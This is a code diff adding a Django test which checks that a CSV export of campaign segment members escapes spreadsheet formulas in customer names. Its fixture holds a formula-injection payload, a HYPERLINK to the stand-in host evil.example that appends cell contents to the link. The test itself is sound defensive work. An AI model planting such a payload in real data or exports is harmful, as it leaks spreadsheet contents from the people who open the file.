@@ -10,6 +10,7 @@ from django.urls import reverse
 
 from campaigns.models import Segment, SegmentMembership
 from campaigns.services import segment_create, segment_refresh
+from customers.models import Customer
 from customers.tests.factories import CustomerFactory
 
 pytestmark = pytest.mark.django_db
@@ -74,6 +75,20 @@ def test_members_export_as_csv(admin_client, germany):
     expected = set(SegmentMembership.objects.filter(segment=germany).values_list("customer_id", flat=True))
     assert {int(r["customer_id"]) for r in rows} == expected
     assert {r["country"] for r in rows} == {"DE"} and all(r["segment"] == "Germany" for r in rows)
+
+
+def test_members_export_never_hands_a_spreadsheet_a_formula(admin_client, germany):
+    """Names come from shops' keys: a cell that starts like a formula is written as text."""
+    member = Customer.objects.get(pk=SegmentMembership.objects.filter(segment=germany).values("customer_id")[:1])
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    Customer.objects.filter(pk=member.pk).update(first_name=formula, last_name="@SUM(1+1)")
+
+    response = act(admin_client, "export_members", germany)
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    (row,) = [r for r in rows if int(r["customer_id"]) == member.pk]
+    assert row["first_name"] == "'" + formula
+    assert row["last_name"] == "'@SUM(1+1)"
 
 
 PREVIEW = "admin:campaigns_segment_preview"
